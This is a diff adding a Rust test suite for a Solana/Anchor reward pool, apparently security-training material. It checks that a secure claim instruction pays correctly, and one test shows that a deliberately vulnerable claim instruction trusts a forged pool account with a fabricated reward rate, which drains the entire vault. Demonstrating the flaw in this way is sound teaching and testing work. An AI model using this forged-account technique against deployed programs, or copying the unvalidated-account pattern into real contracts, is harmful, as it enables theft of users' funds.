@@ -0,0 +1,251 @@
+//! Reward payouts from the account-validation pool.
+//!
+//! A position earns `pool.reward_rate` basis points of its amount per
+//! second, and `claim_rewards_secure` pays the claimant's own position what
+//! it has earned, in the pool's `reward_mint`. What's paid is zeroed first,
+//! so it's paid once. The vulnerable claim reads the rate from whatever
+//! account it is handed, so a copy of the victim's pool with a fabricated
+//! rate empties the real vault.
+
+use account_validation::{accounts, instruction, Pool, UserDeposit, ID};
+use anchor_lang::error::ErrorCode as AnchorError;
+use anchor_lang::{AccountDeserialize, InstructionData, ToAccountMetas};
+use anchor_spl::token::{spl_token, TokenAccount};
+use security_tests::{anchor_account, custom_error, load, pda, program_test, send_for_u64, set_time, system_account, token_account};
+use solana_program_test::ProgramTestContext;
+use solana_sdk::{
+    clock::Clock,
+    instruction::Instruction,
+    native_token::LAMPORTS_PER_SOL,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+    system_program,
+    transaction::TransactionError,
+};
+
+const MINT: Pubkey = Pubkey::new_from_array([0x41; 32]);
+const DEPOSIT_MINT: Pubkey = Pubkey::new_from_array([0x42; 32]);
+/// 0.1% of the position per second
+const RATE: u64 = 10;
+const DEPOSIT: u64 = 1_000;
+const DEPOSIT_AT: i64 = 1_000_000;
+const VAULT: u64 = 1_000;
+
+fn ix(accounts: impl ToAccountMetas, data: impl InstructionData) -> Instruction {
+    Instruction::new_with_bytes(ID, &data.data(), accounts.to_account_metas(None))
+}
+
+/// The victim's pool earning `RATE`, its reward vault holding
+/// `vault_balance` of `MINT`, and the claimant's position of `DEPOSIT`
+/// made at `DEPOSIT_AT`, with an empty `MINT` account to be paid into.
+struct Fixture {
+    context: ProgramTestContext,
+    claimant: Keypair,
+    pool: Pubkey,
+    user_deposit: Pubkey,
+    reward_vault: Pubkey,
+    claimant_tokens: Pubkey,
+}
+
+async fn funded(vault_balance: u64) -> Fixture {
+    position(vault_balance, true).await
+}
+
+/// Like `funded`, but the position opened at `DEPOSIT_AT` is left empty
+/// unless `deposit` is set
+async fn position(vault_balance: u64, deposit: bool) -> Fixture {
+    let victim = Keypair::new();
+    let claimant = Keypair::new();
+    let config = pda(&[b"config"], &ID);
+    let pool = pda(&[b"pool", victim.pubkey().as_ref()], &ID);
+    let user_account = pda(&[b"user", claimant.pubkey().as_ref()], &ID);
+    let user_deposit = pda(&[b"user_deposit", pool.as_ref(), claimant.pubkey().as_ref()], &ID);
+    let (deposit_tokens, pool_deposits) = (Pubkey::new_unique(), Pubkey::new_unique());
+    let (reward_vault, claimant_tokens) = (Pubkey::new_unique(), Pubkey::new_unique());
+
+    let mut test = program_test();
+    test.add_account(victim.pubkey(), system_account(LAMPORTS_PER_SOL));
+    test.add_account(claimant.pubkey(), system_account(LAMPORTS_PER_SOL));
+    test.add_account(deposit_tokens, token_account(DEPOSIT_MINT, claimant.pubkey(), DEPOSIT));
+    test.add_account(pool_deposits, token_account(DEPOSIT_MINT, pool, 0));
+    test.add_account(reward_vault, token_account(MINT, pool, vault_balance));
+    test.add_account(claimant_tokens, token_account(MINT, claimant.pubkey(), 0));
+    let mut context = test.start_with_context().await;
+    set_time(&mut context, DEPOSIT_AT).await;
+
+    let pool_setup = [
+        ix(
+            accounts::InitializeConfig { config, admin: victim.pubkey(), system_program: system_program::ID },
+            instruction::InitializeConfig { fee_bps: 0, max_positions: 1, dust_threshold: 0 },
+        ),
+        ix(
+            accounts::InitializePool { config, pool, authority: victim.pubkey(), system_program: system_program::ID },
+            instruction::InitializePool {
+                reward_rate: RATE,
+                global_tvl_cap: u64::MAX,
+                lock_secs: 0,
+                min_hold_secs: 0,
+                early_exit_bps: 0,
+                deposit_mint: DEPOSIT_MINT,
+                reward_mint: MINT,
+            },
+        ),
+    ];
+    send_for_u64(&mut context.banks_client, &pool_setup, &[&victim]).await.expect("pool setup");
+    let mut position_setup = vec![
+        ix(
+            accounts::InitializeUserAccount { user_account, user: claimant.pubkey(), system_program: system_program::ID },
+            instruction::InitializeUserAccount {},
+        ),
+        ix(
+            accounts::OpenDeposit {
+                config,
+                pool,
+                user_account,
+                user_deposit,
+                user: claimant.pubkey(),
+                system_program: system_program::ID,
+            },
+            instruction::OpenDeposit {},
+        ),
+        ix(
+            accounts::DepositSecureV2 {
+                config,
+                pool,
+                authority: victim.pubkey(),
+                user_deposit,
+                user_token_account: deposit_tokens,
+                pool_token_account: pool_deposits,
+                user: claimant.pubkey(),
+                token_program: spl_token::ID,
+            },
+            instruction::DepositSecureV2 { amount: DEPOSIT },
+        ),
+    ];
+    if !deposit {
+        position_setup.pop();
+    }
+    send_for_u64(&mut context.banks_client, &position_setup, &[&claimant]).await.expect("position setup");
+
+    Fixture { context, claimant, pool, user_deposit, reward_vault, claimant_tokens }
+}
+
+impl Fixture {
+    async fn load<T: AccountDeserialize>(&mut self, key: Pubkey) -> T {
+        load(&mut self.context.banks_client, key).await
+    }
+
+    async fn tokens(&mut self, key: Pubkey) -> u64 {
+        self.load::<TokenAccount>(key).await.amount
+    }
+
+    /// Claims at `secs` after the deposit, in a new slot so a repeated
+    /// claim isn't deduplicated.
+    async fn claim_after(&mut self, secs: i64, claimant_tokens: Pubkey) -> Result<u64, TransactionError> {
+        let slot = self.context.banks_client.get_sysvar::<Clock>().await.unwrap().slot;
+        self.context.warp_to_slot(slot + 1).unwrap();
+        set_time(&mut self.context, DEPOSIT_AT + secs).await;
+        let claim = ix(
+            accounts::ClaimRewardsSecure {
+                pool: self.pool,
+                reward_vault_token_account: self.reward_vault,
+                user_token_account: claimant_tokens,
+                user_deposit: self.user_deposit,
+                user: self.claimant.pubkey(),
+                token_program: spl_token::ID,
+            },
+            instruction::ClaimRewardsSecure {},
+        );
+        let claimant = self.claimant.insecure_clone();
+        send_for_u64(&mut self.context.banks_client, &[claim], &[&claimant]).await
+    }
+
+    /// Claims through the vulnerable instruction with a copy of the
+    /// victim's pool, at an address the claimant controls, promising
+    /// `reward_rate`.
+    async fn claim_with_fabricated_rate(&mut self, reward_rate: u64) -> Result<u64, TransactionError> {
+        let fake = Pubkey::new_unique();
+        let pool = Pool { reward_rate, ..self.load::<Pool>(self.pool).await };
+        self.context.set_account(&fake, &anchor_account(&pool, self.claimant.pubkey()).into());
+        let claim = ix(
+            accounts::ClaimRewardsVulnerable {
+                pool_info: fake,
+                pool_signer: self.pool,
+                reward_vault_token_account: self.reward_vault,
+                user_token_account: self.claimant_tokens,
+                user: self.claimant.pubkey(),
+                token_program: spl_token::ID,
+            },
+            instruction::ClaimRewardsVulnerable {},
+        );
+        let claimant = self.claimant.insecure_clone();
+        send_for_u64(&mut self.context.banks_client, &[claim], &[&claimant]).await
+    }
+}
+
+#[tokio::test]
+async fn a_claim_pays_what_the_position_earned() {
+    let mut fixture = funded(VAULT).await;
+
+    // 1_000 deposited at 10 bps a second earns 1 a second
+    let paid = fixture.claim_after(50, fixture.claimant_tokens).await.expect("solvent pool");
+
+    assert_eq!(paid, 50);
+    assert_eq!(fixture.tokens(fixture.claimant_tokens).await, 50);
+    assert_eq!(fixture.tokens(fixture.reward_vault).await, VAULT - 50);
+}
+
+#[tokio::test]
+async fn a_fresh_position_claims_nothing() {
+    let mut fixture = position(VAULT, false).await;
+    let opened = fixture.load::<UserDeposit>(fixture.user_deposit).await;
+    assert_eq!(opened.rewards_updated_at, DEPOSIT_AT);
+
+    let paid = fixture.claim_after(0, fixture.claimant_tokens).await.expect("nothing to pay");
+
+    assert_eq!(paid, 0);
+    assert_eq!(fixture.tokens(fixture.reward_vault).await, VAULT);
+    assert_eq!(fixture.load::<UserDeposit>(fixture.user_deposit).await.accrued_rewards, 0);
+}
+
+#[tokio::test]
+async fn a_second_claim_pays_nothing_already_paid() {
+    let mut fixture = funded(VAULT).await;
+    fixture.claim_after(50, fixture.claimant_tokens).await.expect("first claim");
+
+    // Same second: nothing new has been earned since the first claim
+    let paid = fixture.claim_after(50, fixture.claimant_tokens).await.expect("second claim");
+
+    assert_eq!(paid, 0);
+    assert_eq!(fixture.tokens(fixture.claimant_tokens).await, 50);
+    assert_eq!(fixture.load::<UserDeposit>(fixture.user_deposit).await.accrued_rewards, 0);
+
+    // Later claims pay only what was earned after the last one
+    assert_eq!(fixture.claim_after(80, fixture.claimant_tokens).await, Ok(30));
+    assert_eq!(fixture.tokens(fixture.claimant_tokens).await, 80);
+}
+
+#[tokio::test]
+async fn a_reward_account_of_another_mint_is_rejected() {
+    let mut fixture = funded(VAULT).await;
+    let other_tokens = Pubkey::new_unique();
+    let other = token_account(Pubkey::new_unique(), fixture.claimant.pubkey(), 0);
+    fixture.context.set_account(&other_tokens, &other.into());
+
+    let err = fixture.claim_after(50, other_tokens).await.expect_err("not the reward mint");
+
+    assert_eq!(err, custom_error(0, AnchorError::ConstraintTokenMint));
+    assert_eq!(fixture.tokens(fixture.reward_vault).await, VAULT);
+}
+
+#[tokio::test]
+async fn a_fabricated_rate_drains_the_real_vault() {
+    let mut fixture = funded(VAULT).await;
+
+    let paid = fixture.claim_with_fabricated_rate(u64::MAX).await.expect("the copy is never checked");
+
+    // Everything the vault holds, owed or not
+    assert_eq!(paid, VAULT);
+    assert_eq!(fixture.tokens(fixture.claimant_tokens).await, VAULT);
+    assert_eq!(fixture.tokens(fixture.reward_vault).await, 0);
+}